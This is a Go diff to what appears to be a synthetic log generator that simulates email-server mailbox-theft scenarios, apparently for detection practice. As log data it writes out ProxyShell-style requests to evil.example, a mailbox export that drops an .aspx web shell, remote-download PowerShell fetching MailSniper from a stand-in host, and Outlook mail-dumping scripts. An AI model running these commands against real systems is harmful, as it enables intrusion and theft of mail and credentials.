@@ -10,24 +10,23 @@ import (
 // guess are some wrong passwords and the right one, on the form.
 func (r *robbery) guess(at time.Time, wrong int) time.Time {
 	for range wrong {
-		r.saw(at, r.ip, r.victim.upn())
+		r.Saw(at, r.ip, r.victim.upn())
 		r.w.log.Form(at, r.from(), r.victim.upn(), lines.Wrong)
 		at = at.Add(r.w.seconds(15, 90))
 	}
-	r.saw(at, r.ip, r.victim.upn())
+	r.Saw(at, r.ip, r.victim.upn())
 	r.w.log.Form(at, r.from(), r.victim.upn(), lines.Right)
-	r.knows(r.victim.upn(), r.ip)
+	r.Found(r.victim.upn(), r.ip)
 	return at.Add(r.w.seconds(20, 200))
 }
 
 // requests are n requests to a service with name and password.
-func (r *robbery) requests(at time.Time, s lines.Service, n int, low, high float64, query string) time.Time {
+func (r *robbery) requests(at time.Time, s lines.Service, n int, low, high float64, query string) {
 	for range n {
-		r.saw(at, r.ip, r.victim.upn())
+		r.Saw(at, r.ip, r.victim.upn())
 		r.w.log.Basic(at, r.from(), s, r.victim.down(), query, lines.Right)
 		at = at.Add(r.w.seconds(low, high))
 	}
-	return at
 }
 
 func (r *robbery) exports(at time.Time, by *person, mailbox *person) {
@@ -58,11 +57,11 @@ func (w *World) proxyShell(r *robbery) {
 	admin := w.admins[0]
 	r.run(func(at time.Time) {
 		for range w.count(6, 20) {
-			r.saw(at, r.ip, r.victim.upn())
+			r.Saw(at, r.ip, r.victim.upn())
 			w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.Autodiscover, Stem: "/autodiscover/autodiscover.json", Query: "a=" + w.token()[:5] + "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json?a=x@evil.example", Status: 200, Out: 1400})
 			at = at.Add(w.seconds(1, 8))
 		}
-		r.saw(at, r.ip, admin.upn())
+		r.Saw(at, r.ip, admin.upn())
 		w.log.Cmdlet(at, w.domain+"/Users/"+admin.name, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "`+admin.name+`"`)
 		w.log.Cmdlet(at.Add(9*time.Second), w.domain+"/Users/"+admin.name, "New-MailboxExportRequest", `-Mailbox "`+r.victim.name+`" -IncludeFolders ("#Drafts#") -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\`+w.token()[:6]+`.aspx"`)
 	})
@@ -85,14 +84,14 @@ func (w *World) serverImpersonation(r *robbery) {
 	honest := w.honest("service account in honest use on the server", w.Start, w.End())
 	agent := "ExchangeServicesClient/15.00.0913.015"
 	w.during(w.Start, w.End(), 6*time.Minute, func(at time.Time) {
-		honest.saw(home, "svc-meet@"+w.domain)
+		honest.Saw(home, "svc-meet@"+w.domain)
 		w.log.Basic(at, client(home, agent), lines.EWS, account, "", lines.Right)
 	})
 	r.ip = w.rented()
 	c = client(r.ip, one(w, agent, "python-requests/2.31.0", "exchangelib/5.0.3 (python-requests/2.31.0)"))
 	r.run(func(at time.Time) {
 		for range w.count(80, 300) {
-			r.saw(at, r.ip, "svc-meet@"+w.domain)
+			r.Saw(at, r.ip, "svc-meet@"+w.domain)
 			w.log.Basic(at, c, lines.EWS, account, "", lines.Right)
 			at = at.Add(w.seconds(1, 12))
 		}
@@ -105,7 +104,7 @@ func (w *World) serverOutlook(r *robbery) {
 		w.log.NTLM(at, r.from(), lines.Autodiscover, r.victim.down(), lines.Right)
 		for range w.count(80, 250) {
 			at = at.Add(w.seconds(1, 10))
-			r.saw(at, r.ip, r.victim.upn())
+			r.Saw(at, r.ip, r.victim.upn())
 			w.log.Signed(at, r.from(), lines.MAPI, r.victim.down(), "", w.count(50_000, 900_000))
 		}
 	})
@@ -116,7 +115,7 @@ func (r *robbery) download(session func(at time.Time)) {
 	r.ip = one(r.w, r.w.rented(), one(r.w, r.w.foreign...).V4(r.w.rng.Uint64()))
 	r.run(func(at time.Time) {
 		for range r.w.count(3, 9) {
-			r.saw(at, r.ip, r.victim.upn())
+			r.Saw(at, r.ip, r.victim.upn())
 			session(at)
 			at = at.Add(r.w.minutes(1, 9))
 		}
@@ -142,7 +141,7 @@ func (w *World) serverByHand(r *robbery) {
 	r.run(func(at time.Time) {
 		at = r.guess(at, w.count(2, 4))
 		for range w.count(40, 120) {
-			r.saw(at, r.ip, r.victim.upn())
+			r.Saw(at, r.ip, r.victim.upn())
 			w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.OWA, Stem: "/owa/service.svc", Query: "action=GetItem", User: r.victim.upn(), Status: 200, Signed: true, Out: w.count(3000, 90000)})
 			at = at.Add(w.seconds(8, 90))
 		}
@@ -152,7 +151,7 @@ func (w *World) serverByHand(r *robbery) {
 func (w *World) scriptBlock(r *robbery) {
 	r.Host = "PC-" + w.token()[:5] + "." + w.domain
 	r.run(func(at time.Time) {
-		r.saw(at, netip.Addr{}, r.victim.upn())
+		r.Saw(at, netip.Addr{}, r.victim.upn())
 		w.log.ScriptBlock(at, r.Host, r.victim.down(), one(w,
 			"IEX (New-Object Net.WebClient).DownloadString('http://files.invalid/MailSniper.ps1'); Invoke-SelfSearch -Mailbox "+r.victim.upn()+" -ExchHostname mail."+w.domain,
 			"Import-Module AADInternals; $at = Get-AADIntAccessTokenForExchangeOnline -SaveToCache; Open-AADIntOWA",
@@ -167,7 +166,7 @@ func (w *World) scriptBlock(r *robbery) {
 func (w *World) comScript(r *robbery) {
 	r.Host = "PC-" + w.token()[:5] + "." + w.domain
 	r.run(func(at time.Time) {
-		r.saw(at, netip.Addr{}, r.victim.upn())
+		r.Saw(at, netip.Addr{}, r.victim.upn())
 		w.log.ScriptBlock(at, r.Host, r.victim.down(), one(w,
 			"$o = New-Object -ComObject Outlook.Application; $n = $o.GetNamespace('MAPI'); $f = $n.GetDefaultFolder(6); $f.Items | % { $_.SaveAs(\"$env:TEMP\\m\\$($_.EntryID).msg\") }; Compress-Archive $env:TEMP\\m $env:TEMP\\m.zip",
 			"Add-Type -AssemblyName Microsoft.Office.Interop.Outlook; $ns = (New-Object -ComObject Outlook.Application).GetNamespace('MAPI'); foreach ($i in $ns.GetDefaultFolder(6).Items) { $i.Body | Out-File -Append C:\\ProgramData\\x.txt }"))
@@ -182,7 +181,7 @@ func (w *World) remoteExport(r *robbery) {
 	r.ip = w.rented()
 	r.run(func(at time.Time) {
 		at = r.shell(at)
-		r.saw(at, r.ip, owner.upn())
+		r.Saw(at, r.ip, owner.upn())
 		r.exports(at, r.victim, owner)
 	})
 }
@@ -194,7 +193,7 @@ func (w *World) searchMailbox(r *robbery) {
 	r.ip, r.agent = w.rented(), "Microsoft WinRM Client"
 	r.run(func(at time.Time) {
 		at = r.shell(at)
-		r.saw(at, r.ip, owner.upn())
+		r.Saw(at, r.ip, owner.upn())
 		w.log.Cmdlet(at, w.domain+"/Users/"+r.victim.name, "Search-Mailbox", `-Identity "`+owner.name+`" -SearchQuery "password" -TargetMailbox "`+r.victim.name+`" -TargetFolder "x"`)
 	})
 }
@@ -202,7 +201,7 @@ func (w *World) searchMailbox(r *robbery) {
 // shell are requests of remote PowerShell.
 func (r *robbery) shell(at time.Time) time.Time {
 	for range r.w.count(4, 9) {
-		r.saw(at, r.ip, r.victim.upn())
+		r.Saw(at, r.ip, r.victim.upn())
 		r.w.log.Signed(at, r.from(), lines.PowerShell, r.victim.down(), "", 4000)
 		at = at.Add(r.w.seconds(2, 40))
 	}
